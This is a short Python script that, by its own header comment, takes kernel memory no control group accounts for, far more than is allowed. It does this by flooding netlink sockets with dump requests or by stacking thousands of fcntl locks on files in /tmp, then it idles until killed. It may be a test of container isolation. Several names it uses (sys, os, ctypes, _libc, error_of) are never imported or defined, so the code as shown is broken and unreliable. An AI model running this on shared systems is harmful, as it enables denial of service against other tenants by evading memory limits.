# Takes kernel memory that no control group counts, far more than is allowed, and waits to be stopped. The argument: what.
import fcntl, socket, struct, time
kind, held = sys.argv[1], []
if kind == "answers":
    question = struct.pack("IHHII", 32, 18, 1 | 0x300, 1, 0) + b"\0" * 16
    for _ in range(1500):
        held.append(made := socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
        made.setblocking(False)
        for _ in range(100):
            if error_of(lambda: made.send(question)) != "done":
                break
else:
    class Lock(ctypes.Structure):
        _fields_ = [("kind", ctypes.c_short), ("whence", ctypes.c_short), ("start", ctypes.c_long), ("length", ctypes.c_long), ("pid", ctypes.c_int)]
    lock = Lock(1, 0, 0, 1, 0)
    command = 37 if kind == "file locks" else 6
    for number in range(800):
        held.append(file := os.open(f"/tmp/lock{number}", os.O_CREAT | os.O_RDWR))
        for start in range(2000, 0, -2):
            lock.start = start
            _libc.fcntl(file, command, ctypes.byref(lock))
        # A busy machine takes its time, and who is silent for a minute is given up.
        print(number, flush=True)
while True:
    time.sleep(1)
